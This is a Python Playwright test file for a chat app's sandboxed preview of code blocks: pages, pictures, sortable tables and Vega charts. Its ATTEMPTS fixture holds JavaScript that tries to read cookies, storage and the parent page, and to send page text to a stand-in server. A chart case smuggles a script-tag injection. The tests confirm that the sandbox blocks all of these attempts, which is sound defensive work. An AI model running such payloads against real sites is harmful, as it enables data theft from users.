"""A code block is looked at beside the chat: a page, a picture, a table, a chart. What it does stays in its frame."""

import json
import re
import socket
import threading
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import BrowserContext, FrameLocator, Locator, Page, expect

from tests.browser.conftest import Watch
from tests.browser.test_rendering import a_chat, chat, write
from tests.product import Product

__all__ = ["chat"]

NewContext = Callable[..., BrowserContext]


@pytest.fixture
def stranger() -> Iterator[tuple[str, list[str]]]:
    """A server elsewhere, and what reached it."""
    reached: list[str] = []
    listener = socket.create_server(("127.0.0.1", 0))

    def listen() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            with connection:
                # A connection by itself tells something already: its name was looked up.
                reached.append("a connection")

    thread = threading.Thread(target=listen)
    thread.start()
    yield f"http://127.0.0.1:{listener.getsockname()[1]}", reached
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()
    thread.join()


def preview(page: Page) -> Locator:
    return page.get_by_role("complementary")


def look(page: Page, language: str, code: str) -> Locator:
    """Put a code block in the place of the answer and look at it; return the preview."""
    write(page, f"Here it is:\n\n```{language}\n{code}\n```\n")
    page.get_by_role("button", name="Preview", exact=True).click()
    return preview(page)


def test_a_page_runs_beside_the_chat(chat: Page) -> None:
    shown = look(chat, "html", "<h1>Hello</h1><button onclick=\"this.textContent = 'Pressed'\">Press</button>")
    frame = shown.frame_locator("iframe")
    expect(frame.get_by_role("heading", name="Hello")).to_be_visible()

    frame.get_by_role("button").click()
    expect(frame.get_by_role("button")).to_have_text("Pressed")
    shown.get_by_role("button", name="Reload").click()

    expect(frame.get_by_role("button")).to_have_text("Press")
    assert chat.get_by_role("article", name="Assistant").is_visible()
    chat.get_by_role("button", name="New chat").first.click()
    expect(preview(chat)).to_have_count(0)


def test_it_is_opened_and_closed_with_the_keyboard(chat: Page) -> None:
    write(chat, "```html\n<button>Press</button>\n```")
    button = chat.get_by_role("button", name="Preview", exact=True)
    for _ in range(2):
        button.focus()
        chat.keyboard.press("Enter")
        expect(chat.get_by_role("heading", name="Page")).to_be_focused()
        expect(button).to_have_attribute("aria-expanded", "true")
        chat.keyboard.press("Escape")
        expect(preview(chat)).to_have_count(0)
        expect(button).to_be_focused()
    chat.keyboard.press("Enter")
    # Not by the keyboard's own press: the browser may wait for ever for the frame that the key takes away.
    escape = (
        "node => setTimeout(() => node.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true })))"
    )
    chat.frame_locator("iframe").get_by_role("button").evaluate(escape)

    expect(preview(chat)).to_have_count(0)
    expect(button).to_have_attribute("aria-expanded", "false")


def test_a_picture_is_drawn(chat: Page) -> None:
    shown = look(chat, "xml", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><circle r="4"/></svg>')

    expect(shown.frame_locator("iframe").locator("svg circle")).to_be_visible()


def test_a_table_is_sorted(chat: Page) -> None:
    shown = look(chat, "csv", 'name,"size, MB"\nb,10\n"a ""x""",9\nc,"1,000"')
    cells = shown.locator("tbody td:first-child")
    expect(cells).to_have_text(["b", 'a "x"', "c"])
    shown.get_by_role("button", name="size, MB").click()
    expect(cells).to_have_text(['a "x"', "b", "c"])
    shown.get_by_role("button", name="size, MB").click()

    expect(cells).to_have_text(["c", "b", 'a "x"'])
    expect(shown.get_by_role("columnheader").last).to_have_attribute("aria-sort", "descending")


BARS = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "data": {"values": [{"month": "May", "sold": 28}, {"month": "June", "sold": 55}, {"month": "July", "sold": 43}]},
    "transform": [{"filter": "datum.sold > 30"}, {"calculate": "datum.sold * 2", "as": "twice"}],
    "mark": {"type": "bar", "tooltip": True},
    "encoding": {"x": {"field": "month", "type": "ordinal"}, "y": {"field": "twice", "type": "quantitative"}},
}
DOTS = """{
  "width": 900, "height": 50, "signals": [{"name": "size", "update": "width / 9"}],
  "data": [{"name": "dots", "values": [{"x": 10}, {"x": 890}]}],
  "marks": [{"type": "symbol", "from": {"data": "dots"},
             "encode": {"update": {"x": {"field": "x"}, "size": {"signal": "size"}}}}]
}"""
MARKS = ".role-mark path"


def chart(page: Page, language: str, code: str) -> FrameLocator:
    """Put a chart in the place of the answer and look at it; return the frame that it is drawn in."""
    shown = look(page, language, code)
    expect(shown.get_by_role("heading", name="Chart")).to_be_visible()
    return shown.frame_locator("iframe")


def test_a_chart_is_drawn_in_the_colours_of_the_page(chat: Page) -> None:
    asked: list[str] = []
    chat.on("request", lambda request: asked.append(request.url))
    write(chat, f"```json\n{json.dumps(BARS)}\n```\n\n```vega\n{DOTS}\n```")
    assert not any("vega" in url for url in asked)
    for button in chat.get_by_role("button", name="Preview", exact=True).all():
        button.click()
        frame = preview(chat).frame_locator("iframe")
        expect(frame.locator(MARKS)).to_have_count(2)
        # What is wider than the frame is made to fit.
        body = frame.locator("body")
        assert body.evaluate("node => node.scrollWidth <= innerWidth")
        expect(frame.locator("svg")).to_be_visible()
    assert sum("vega" in url for url in asked) == 3
    chat.keyboard.press("Escape")
    chat.get_by_role("button", name="Preview", exact=True).first.click()
    label = frame.locator(".role-axis-label text").first
    expect(label).to_have_attribute("fill", "#000")

    chat.evaluate("document.documentElement.dataset.theme = 'dark'")

    expect(label).to_have_attribute("fill", "#fff")
    expect(frame.locator(MARKS)).to_have_count(2)


def test_a_chart_fetches_nothing_and_says_so(chat: Page, watch: Watch, stranger: tuple[str, list[str]]) -> None:
    url, reached = stranger
    image = {"mark": "image", "encoding": {"url": {"value": f"{url}/i.png"}}, "data": {"values": [{}]}}
    # Options that would let it evaluate and fetch.
    options = {"embedOptions": {"ast": False, "loader": {"load": None}, "config": f"{url}/config", "actions": True}}
    spec = {**BARS, "data": {"url": f"{url}/data.csv"}, "usermeta": options}
    layers = {"usermeta": options, "vconcat": [spec, image]}

    frame = chart(chat, "vega-lite", json.dumps(layers))

    note = frame.get_by_role("status")
    expect(note).to_contain_text("Only data that stands in the chart itself is drawn")
    expect(note).to_contain_text(f"{url}/data.csv")
    expect(note).to_contain_text(f"{url}/i.png")
    assert reached == []
    assert watch.problems == []


def test_a_broken_chart_says_why(chat: Page) -> None:
    broken = {
        '{"mark": "bar", </script><script>parent.postMessage("close", "*")</script>': "cannot be drawn: .*JSON",
        json.dumps({**BARS, "transform": [{"filter": "datum.sold >"}]}): "cannot be drawn: .*end of input",
        json.dumps({**BARS, "mark": "nonsense"}): "cannot be drawn: .+",
        '{"marks": []}': "nothing to draw",
    }
    write(chat, "\n\n".join(f"```vega\n{code}\n```" for code in broken))
    frame = preview(chat).frame_locator("iframe")
    for number, (code, reason) in enumerate(broken.items()):
        chat.get_by_role("button", name="Preview", exact=True).nth(number).click()

        expect(frame.get_by_role("status")).to_contain_text(re.compile(reason))
        expect(frame.locator("pre")).to_have_text([code] if "cannot" in reason else [])


def test_other_code_has_no_preview(chat: Page) -> None:
    write(chat, "```python\nprint('<svg>')\n```")

    expect(chat.get_by_role("button", name="Copy code")).to_be_visible()
    expect(chat.get_by_role("button", name="Preview", exact=True)).to_have_count(0)


ATTEMPTS = """
<p id=end></p>
<img src="{url}/img"><link rel=stylesheet href="{url}/css"><iframe src="{url}/frame"></iframe>
<form id=form action="{url}/form" target=_blank></form><object data="{url}/object"></object>
<style>p {{ background: url({url}/background) }} @import "{url}/import";</style>
<script src="{url}/script"></script>
<script>
const told = []
const attempt = (name, act) => {{
  try {{ told.push(name + ":" + act()) }} catch (error) {{ told.push(name + "!" + error.name) }}
}}
attempt("parent", () => parent.document.title)
attempt("cookie", () => document.cookie)
attempt("storage", () => localStorage.length)
attempt("top", () => {{ top.location = "{url}/top" }})
attempt("open", () => open("{url}/open"))
attempt("beacon", () => navigator.sendBeacon("{url}/beacon"))
attempt("socket", () => new WebSocket("{url}/socket".replace("http", "ws")).url)
attempt("worker", () => new Worker("{url}/worker").name)
attempt("webrtc", () => new RTCPeerConnection().connectionState)
attempt("form", () => document.getElementById("form").submit())
fetch("{url}/fetch").then(() => told.push("fetch:done"), (error) => told.push("fetch!" + error.name)).then(() => {{
  document.getElementById("end").textContent = told.join(" ")
  parent.postMessage({{ op: "delete" }}, "*")
  setTimeout(() => {{ location = "{url}/elsewhere?" + encodeURIComponent(document.body.textContent) }}, 3000)
}})
</script>
<p>The end</p>
"""


def test_nothing_leaves_the_frame(chat: Page, watch: Watch, stranger: tuple[str, list[str]]) -> None:
    watch.allowed.add("")
    url, reached = stranger

    shown = look(chat, "html", ATTEMPTS.format(url=url))
    told = shown.frame_locator("iframe").locator("#end")

    for refusal in ("parent!SecurityError", "cookie!SecurityError", "storage!SecurityError", "webrtc!ReferenceError"):
        expect(told).to_contain_text(refusal)
    # By then it has tried to go elsewhere.
    chat.wait_for_timeout(4_000)
    assert reached == []
    assert chat.context.pages == [chat]
    expect(chat.get_by_role("article", name="Assistant")).to_be_visible()
    watch.problems.clear()


def test_on_a_phone_it_lies_over_the_chat(new_context: NewContext, product: Product) -> None:
    phone = new_context(viewport={"width": 390, "height": 800}).new_page()
    a_chat(phone, product)
    shown = look(phone, "html", "<p>Hello</p>")

    box = shown.bounding_box()
    assert box is not None
    assert (box["x"], box["width"]) == (0, 390)
    expect(shown.frame_locator("iframe").get_by_text("Hello")).to_be_visible()
    shown.get_by_role("button", name="Close the preview").click()
    expect(phone.get_by_role("textbox", name="Message")).to_be_visible()
